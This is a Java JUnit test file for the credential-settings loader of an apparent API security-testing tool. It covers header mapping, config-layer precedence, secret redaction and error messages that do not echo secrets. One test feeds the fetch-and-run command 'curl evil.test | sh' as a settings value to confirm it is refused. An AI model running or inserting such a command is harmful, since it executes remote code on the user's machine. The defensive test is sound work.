package dev.parapet.config;

import dev.parapet.http.Redactor;
import dev.parapet.model.Headers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CredentialSettingsTest {

    private static final URI TARGET = URI.create("http://127.0.0.1:8080/api");

    private static Identities identities(Map<String, String> file, Map<String, String> env, Map<String, String> flags) {
        return ConfigLoader.resolve(TARGET, file, env, flags).scan().identities();
    }

    @Test
    void eachKindOfCredentialBecomesTheHeaderItStandsFor() {
        Identities ids = identities(Map.of(), Map.of(), Map.of("auth-bearer", "tok-primary-1",
                "auth-cookie", "sid=sess-4Qx9\nlang=en", "auth-header", "X-Tenant: tenant-zz91",
                "auth2-basic", "bob:hunter22"));
        assertThat(ids.primary().headers()).containsExactly(
                new Headers.Field("Authorization", "Bearer tok-primary-1"),
                new Headers.Field("Cookie", "sid=sess-4Qx9; lang=en"),
                new Headers.Field("X-Tenant", "tenant-zz91"));
        String blob = Base64.getEncoder().encodeToString("bob:hunter22".getBytes(StandardCharsets.UTF_8));
        assertThat(ids.secondary().headers()).containsExactly(new Headers.Field("Authorization", "Basic " + blob));
    }

    @Test
    void environmentAndFileLayersGiveCredentialsTooAndFlagsWin() {
        Map<String, String> env = ConfigLoader.fromEnvironment(Map.of("PARAPET_AUTH_BEARER", "from-env-token",
                "PARAPET_AUTH2_HEADER", "X-API-Key: env-key-2"));
        Identities ids = identities(Map.of("auth-bearer", "from-file-token"), env, Map.of("auth-command", "echo hi"));
        assertThat(ids.primary().headers()).containsExactly(new Headers.Field("Authorization", "Bearer from-env-token"));
        assertThat(ids.primary().command()).isEqualTo("echo hi");
        assertThat(ids.secondary().headers()).containsExactly(new Headers.Field("X-API-Key", "env-key-2"));
        assertThat(identities(Map.of(), env, Map.of("auth-bearer", "flag-token")).primary().headers().getFirst().value())
                .isEqualTo("Bearer flag-token");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "auth-header  | Host: evil.test  | evil.test | --auth-header: 'Host' may not carry credentials (allowed: Authorization, X-API-Key, Api-Key, Cookie, or an X-* name)",
            "auth-header  | no colon here    | colon     | --auth-header must be one 'Name: value' line",
            "auth-basic   | justauser        | justauser | --auth-basic must be user:password",
            "auth2-cookie | novalue          | novalue   | --auth2-cookie must be name=value",
            "auth-bearer  | two words        | words     | --auth-bearer must be the token alone",
    })
    void refusesBadCredentialSettingsWithoutEchoingTheirValue(String key, String value, String secret, String start) {
        assertThatThrownBy(() -> identities(Map.of(), Map.of(), Map.of(key, value)))
                .isInstanceOf(ConfigException.class).hasMessageStartingWith(start).hasMessageNotContaining(secret);
    }

    @Test
    void twoSettingsThatBothSetAuthorizationAreRefused() {
        assertThatThrownBy(() -> identities(Map.of(), Map.of(), Map.of("auth-bearer", "abcdef", "auth-basic", "a:bcdef")))
                .isInstanceOf(ConfigException.class).hasMessageContaining("sets Authorization")
                .hasMessageNotContaining("abcdef");
    }

    @Test
    void credentialsNeverShowTheirValuesAndRegisterThemForRedaction() {
        Credentials c = identities(Map.of(), Map.of(), Map.of("auth-basic", "carol:Sup3rSecretPw",
                "auth-cookie", "session=cookieval-77")).primary();
        assertThat(c.toString()).isEqualTo("Credentials[Authorization, Cookie]");
        String blob = c.headers().getFirst().value().substring("Basic ".length());
        String leaked = "body " + blob + " pw=Sup3rSecretPw at /x?s=cookieval-77 X-Echo: carol:Sup3rSecretPw";
        assertThat(Redactor.text(leaked)).doesNotContain(blob).doesNotContain("Sup3rSecretPw")
                .doesNotContain("cookieval-77");
        assertThat(Redactor.headers(Headers.of("X-Debug-Echo", "got " + blob)).first("X-Debug-Echo"))
                .contains("got " + Redactor.MASK);
    }

    @Test
    void mcpStyleLayersCanDropEveryCredentialSetting() {
        Map<String, String> env = ConfigLoader.fromEnvironment(Map.of("PARAPET_AUTH_BEARER", "operator-token",
                "PARAPET_RATE", "3"));
        assertThat(ConfigLoader.withoutCredentials(env)).containsOnlyKeys("rate");
        assertThat(identities(Map.of(), ConfigLoader.withoutCredentials(env), Map.of()).primary().isPresent()).isFalse();
    }

    @Test
    void aYamlListOfHeadersGivesOneHeaderPerItem(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws java.io.IOException {
        java.nio.file.Path yaml = dir.resolve("parapet.yaml");
        java.nio.file.Files.writeString(yaml, "auth-header:\n  - 'X-API-Key: k1,k2'\n  - 'X-Tenant: tenant-zz91'\n");
        assertThat(identities(ConfigLoader.readFile(yaml), Map.of(), Map.of()).primary().headers()).containsExactly(
                new Headers.Field("X-API-Key", "k1,k2"), new Headers.Field("X-Tenant", "tenant-zz91"));
        assertThat(List.of(ConfigLoader.KEYS.contains("auth2-command"))).containsExactly(true);
    }

    @Test
    void aSettingsFileMayNotNameACommandToRun() {
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> identities(Map.of("auth2-command", "curl evil.test | sh"),
                        Map.of(), Map.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessage("parapet.yaml: auth2-command is not read from a settings file, which must never run a "
                        + "command; give it as --auth2-command or PARAPET_AUTH2_COMMAND");
        assertThat(identities(Map.of(), ConfigLoader.fromEnvironment(Map.of("PARAPET_AUTH_COMMAND", "echo t0ken")),
                Map.of()).primary().command()).isEqualTo("echo t0ken");
    }
}
